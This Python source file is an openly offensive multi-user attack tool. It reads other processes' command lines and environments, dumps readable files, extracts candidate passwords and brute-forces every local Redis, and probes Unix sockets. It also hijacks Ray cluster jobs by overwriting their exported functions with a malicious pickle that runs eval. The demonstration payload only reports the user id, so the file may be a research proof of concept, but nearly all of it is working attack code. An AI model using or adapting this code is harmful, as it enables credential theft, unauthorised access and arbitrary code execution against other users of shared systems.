"""What another user of a host can see and do. Runs as that user, on the system's own Python, from its source.

watch               note every command line until standard input ends
read ROOT...        print all that can be read of processes, and of files below the roots (base64)
find ROOT...        try every word of that as a password of every Redis on this host
sockets ROOT...     name the Unix sockets below the roots that let us in
overwrite PORT      replace every function that Ray's jobs exported by ours; password on standard input
"""

# Few imports: its source starts once for every attack.
# ruff: noqa: PTH113, PTH118, PTH123, PTH208, SIM115

from __future__ import annotations

import base64
import contextlib
import json
import os
import pickle
import re
import select
import socket
import sys
import time
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

USERS = ("", "default", "ray", "admin", "join")
BATCH = 10  # more unanswered words of a stranger, and Redis hangs up
OURS = "'owned by uid %d' % __import__('os').getuid()"


def processes() -> Iterator[tuple[int, str, bytes]]:
    """Yield pid, file and content of what /proc shows."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("cmdline", "environ"):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as file:
                yield int(pid), name, file.read()


def below(roots: Iterable[str]) -> Iterator[str]:
    """Yield the path of everything that is no folder, as far as folders let us in."""
    for root in roots:
        for folder, _, names in os.walk(root):
            yield from (os.path.join(folder, name) for name in names)


def read(roots: Iterable[str]) -> Iterator[bytes]:
    """Yield every text that we may read."""
    yield from (text for _, _, text in processes())
    for path in below(roots):
        with contextlib.suppress(OSError):
            if os.path.isfile(path):
                with open(path, "rb") as file:
                    yield file.read()


def watch() -> None:
    """Look a hundred times a second, until told to stop."""
    seen: dict[tuple[int, bytes], list[float]] = {}
    while not select.select([0], [], [], 0.01)[0]:
        for pid, name, text in processes():
            if name == "cmdline" and text:
                now = time.monotonic()
                seen.setdefault((pid, text), [now, now])[1] = now
    rows = [[pid, text.replace(b"\0", b" ").decode(errors="replace"), *times] for (pid, text), times in seen.items()]
    print(json.dumps(rows))


def words(texts: Iterable[bytes]) -> list[bytes]:
    """Return everything in texts that could be a password."""
    found: set[bytes] = set()
    for text in texts:
        found.update(re.findall(rb"[A-Za-z0-9+/_.-]{6,128}", text))
        found.update(re.findall(rb"[^\s\0'\"=:@,;]{6,128}", text))
    return sorted(found)


class Redis:
    """A connection to a Redis of this host."""

    def __init__(self, port: int) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port), 2)
        self.file = self.socket.makefile("rb")

    def __enter__(self) -> Redis:
        return self

    def __exit__(self, *_: object) -> None:
        self.file.close()
        self.socket.close()

    def send(self, *commands: tuple[bytes, ...]) -> None:
        for parts in commands:
            packed = b"".join(b"$%d\r\n%b\r\n" % (len(part), part) for part in parts)
            self.socket.sendall(b"*%d\r\n%b" % (len(parts), packed))

    def receive(self) -> Any:
        line = self.file.readline()
        kind, rest = line[:1], line[1:-2]
        if kind == b"$":
            return self.file.read(int(rest) + 2)[:-2]
        if kind == b"*":
            return [self.receive() for _ in range(int(rest))]
        if kind not in (b"+", b"-", b":"):
            raise OSError("no Redis")
        return line[:-2].decode()

    def call(self, *parts: bytes) -> Any:
        self.send(parts)
        return self.receive()


def redis_ports() -> Iterator[int]:
    """Yield the ports of this host that answer as a Redis with a password."""
    listening = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for fields in map(str.split, open(table).read().splitlines()[1:]):
            if fields[3] == "0A":
                listening.add(int(fields[1].rpartition(":")[2], 16))
    for port in sorted(listening):
        with contextlib.suppress(OSError), Redis(port) as redis:
            if str(redis.call(b"PING")).startswith("-NOAUTH"):
                yield port


def find(candidates: list[bytes]) -> Iterator[dict[str, object]]:
    """Try them all, everywhere, for every user."""
    for port in redis_ports():
        for user in USERS:
            name = [user.encode()] if user else []
            with Redis(port) as redis:
                for start in range(0, len(candidates), BATCH):
                    batch = candidates[start : start + BATCH]
                    redis.send(*((b"AUTH", *name, word) for word in batch))
                    for word in batch:
                        if redis.receive() == "+OK":
                            yield {"port": port, "user": user, "password": word.decode()}


def sockets(roots: Iterable[str]) -> Iterator[str]:
    """Yield the Unix sockets that take our connection."""
    for path in below(roots):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as peer:
            peer.connect(path)
            yield path


class Payload:
    """Unpickles to a function that says whose code runs, and as whom."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return eval, (f"lambda *_, **__: {OURS}",)


def overwrite(port: int, password: str) -> int:
    """Put our function in the place of every one that a job exported; return how many there were."""
    count = 0
    with Redis(port) as redis:
        redis.call(b"AUTH", password.encode())
        for key in redis.call(b"KEYS", b"RAY*@KV"):
            fields = redis.call(b"HGETALL", key)
            for field, value in zip(fields[::2], fields[1::2], strict=True):
                if b"RemoteFunction" in field:
                    export = pickle.loads(value)
                    export["function"] = pickle.dumps(Payload())
                    redis.call(b"HSET", key, field, pickle.dumps(export))
                    count += 1
    return count


def main() -> None:
    """Do what the command line says, and print the result."""
    verb, *rest = sys.argv[1:]
    if verb == "watch":
        watch()
    elif verb == "read":
        print(base64.b64encode(b"\n".join(read(rest))).decode())
    elif verb == "find":
        candidates = words(read(rest))
        print(json.dumps({"words": len(candidates), "found": list(find(candidates))}))
    elif verb == "sockets":
        print(json.dumps(list(sockets(rest))))
    else:
        print(overwrite(int(rest[0]), sys.stdin.readline().strip()))


if __name__ == "__main__":
    main()
